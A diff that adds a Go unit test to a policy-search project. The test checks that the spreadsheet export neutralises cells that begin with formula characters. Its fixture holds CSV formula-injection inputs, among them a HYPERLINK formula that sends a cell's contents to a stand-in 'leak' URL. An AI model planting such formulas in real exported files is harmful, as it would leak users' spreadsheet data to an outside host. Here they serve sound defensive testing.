@@ -87,3 +87,32 @@ func TestExportRow(t *testing.T) {
 		t.Errorf("row %v", col)
 	}
 }
+
+// A spreadsheet runs a cell that starts with a formula character; the export neutralises
+// every such cell that comes from a document, and only those.
+func TestExportRowNeutralisesFormulas(t *testing.T) {
+	h := policysearch.Hit{
+		ID:          "a-m1",
+		DocTitle:    `=HYPERLINK("http://example.org/?leak="&A2,"打开")`,
+		Issuers:     []string{"@SUM(1+1)"},
+		SectionPath: []string{"+一、"},
+		MeasureNo:   "-1",
+		Kind:        "\tx",
+		Region:      "\rcmd",
+		Text:        "一、总体要求 =1+1",
+		Score:       -0.5,
+	}
+	row := policysearch.ExportRow(h)
+	col := map[string]string{}
+	for i, c := range policysearch.ExportColumns {
+		col[c] = row[i]
+	}
+	for _, c := range []string{"doc_title", "issuers", "section_path", "measure_no", "kind", "region"} {
+		if !strings.HasPrefix(col[c], "'") {
+			t.Errorf("%s = %q: not neutralised", c, col[c])
+		}
+	}
+	if col["doc_title"] != "'"+h.DocTitle || col["text"] != h.Text || col["id"] != "a-m1" || col["score"] != "-0.5000" {
+		t.Errorf("row %q", row)
+	}
+}
